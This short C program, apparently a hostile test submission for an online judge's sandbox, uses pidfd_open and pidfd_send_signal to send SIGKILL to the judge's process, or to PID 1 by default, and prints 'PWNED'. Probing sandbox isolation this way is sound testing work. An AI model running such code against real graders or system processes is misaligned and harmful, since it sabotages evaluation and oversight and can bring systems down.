#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

/* argv[1]: the judge's pid */
int main(int argc, char **argv)
{
	long fd = syscall(SYS_pidfd_open, argc > 1 ? atoi(argv[1]) : 1, 0);

	if (fd >= 0 && syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0) == 0)
		puts("PWNED: the judge got SIGKILL");
	return 1;
}
